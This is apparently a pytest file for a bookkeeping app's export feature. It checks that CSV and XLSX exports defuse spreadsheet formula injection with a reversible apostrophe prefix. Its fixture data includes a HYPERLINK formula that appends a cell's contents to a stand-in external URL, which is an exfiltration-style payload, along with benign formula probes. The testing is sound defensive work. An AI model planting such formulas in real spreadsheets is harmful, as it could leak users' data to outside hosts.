"""Attack by formula: text a spreadsheet would run is exported inert, and comes back exactly."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from decimal import Decimal

import pytest

from coopdesk.domain.trade import SaleLine
from coopdesk.services.book import Book
from coopdesk.services.csv_files import needs_quote_mark, neutralise, restore
from coopdesk.services.payments import record_expense
from coopdesk.services.trade import record_sale
from tests.faults.import_attack import book_copy, run

DAY = dt.date(2022, 1, 10)
NOTES = [
    '=HYPERLINK("http://x.example/?"&A1,"Clic aquí")',
    "+51 984 000 000",
    "-5 soles de vuelto",
    "@SUM(A1:A9)",
    "'=ya con apóstrofo",
    "''+dos apóstrofos",
    "'no es fórmula",
    "normal",
]
BUYERS = ["=1+2", "@Bodega", "-Tienda", "+Familia", "Thika Thani"]


@pytest.fixture
def folder(_member_book_file, tmp_path, monkeypatch):
    monkeypatch.setenv("COOPDESK_LANG", "en")
    folder = book_copy(_member_book_file, tmp_path)
    with Book.open_folder(folder) as book:
        for n, note in enumerate(NOTES):
            record_expense(book, day=DAY, category="Transporte", amount=Decimal(f"{n + 1}.50"),
                           note=note)
        for buyer in BUYERS:
            record_sale(book, day=DAY, buyer=buyer, paid=True,
                        lines=[SaleLine("Barra", Decimal("2"), Decimal("8.50"))])
    return folder


def test_csv_cells_that_would_run_get_one_apostrophe_and_figures_stay_plain(folder, tmp_path,
                                                                           capsys):
    path = tmp_path / "gastos.csv"
    assert run(capsys, folder, "export", "expenses", path)[0] == 0
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    # Worked by hand from the OWASP rule, not from the exporter's code.
    assert [r[3] for r in rows[1:]] == [
        '\'=HYPERLINK("http://x.example/?"&A1,"Clic aquí")',
        "'+51 984 000 000",
        "'-5 soles de vuelto",
        "'@SUM(A1:A9)",
        "''=ya con apóstrofo",
        "'''+dos apóstrofos",
        "'no es fórmula",
        "normal",
    ]
    assert [r[2] for r in rows[1:]] == [f"{n + 1}.50" for n in range(len(NOTES))]
    sales = tmp_path / "ventas.csv"
    run(capsys, folder, "export", "sales", sales)
    with open(sales, encoding="utf-8", newline="") as fh:
        assert sorted(r[1] for r in list(csv.reader(fh))[1:]) == [
            "'+Familia", "'-Tienda", "'=1+2", "'@Bodega", "Thika Thani"]


def test_a_csv_export_imports_back_to_the_very_same_text(folder, tmp_path, capsys,
                                                        _member_book_file):
    for kind in ("expenses", "sales"):
        assert run(capsys, folder, "export", kind, tmp_path / f"{kind}.csv")[0] == 0
    other = tmp_path / "other"
    other.mkdir()
    (other / "coopdesk.sqlite3").write_bytes(_member_book_file.read_bytes())
    for kind in ("expenses", "sales"):
        code, err = run(capsys, other, "import", kind, tmp_path / f"{kind}.csv")
        assert (code, err) == (0, [])
    import sqlite3

    conn = sqlite3.connect(other / "coopdesk.sqlite3")
    notes = [n for (n,) in conn.execute("SELECT note FROM expense ORDER BY amount")]
    buyers = sorted(b for (b,) in conn.execute("SELECT name FROM buyer"))
    conn.close()
    assert notes == NOTES
    assert buyers == sorted(BUYERS)


def test_xlsx_cells_are_text_never_formulas(folder, tmp_path, capsys, _member_book_file):
    path = tmp_path / "gastos.xlsx"
    assert run(capsys, folder, "export", "expenses", path)[0] == 0
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    from openpyxl import load_workbook

    cells = [c for row in load_workbook(path).active.iter_rows(min_row=2) for c in row]
    assert {c.data_type for c in cells} == {"s"}
    # nota is the 4th column; the uuid columns follow the import headers (revision 0009)
    assert [c.value for c in cells[3::6]] == NOTES
    other = tmp_path / "other"
    other.mkdir()
    (other / "coopdesk.sqlite3").write_bytes(_member_book_file.read_bytes())
    assert run(capsys, other, "import", "expenses", path) == (0, [])
    import sqlite3

    conn = sqlite3.connect(other / "coopdesk.sqlite3")
    assert [n for (n,) in conn.execute("SELECT note FROM expense ORDER BY amount")] == NOTES
    conn.close()


@pytest.mark.parametrize(
    "text", ["", "'", "''", "'='", "=", "-", "\t=x", "a=b", "'a", "''=", "'''", "8.50", "-8.50"]
)
def test_the_apostrophe_rule_is_reversible(text):
    assert restore(neutralise(text)) == text
    marked = {"'='", "=", "-", "\t=x", "''=", "-8.50"}
    assert needs_quote_mark(text) == (text in marked)
    assert neutralise(text) == ("'" + text if text in marked else text)


def test_figure_columns_are_never_marked_even_when_negative():
    from coopdesk.services.exporting import csv_cells

    assert csv_cells("expenses", ["2022-01-05", "-Transporte", "-5.00", "-nota"]) == [
        "2022-01-05", "'-Transporte", "-5.00", "'-nota"]
    assert csv_cells("sales", ["2022-01-05", "=B", "-P", "-1.5", "-8.50", "si", "+R"]) == [
        "2022-01-05", "'=B", "'-P", "-1.5", "-8.50", "si", "'+R"]
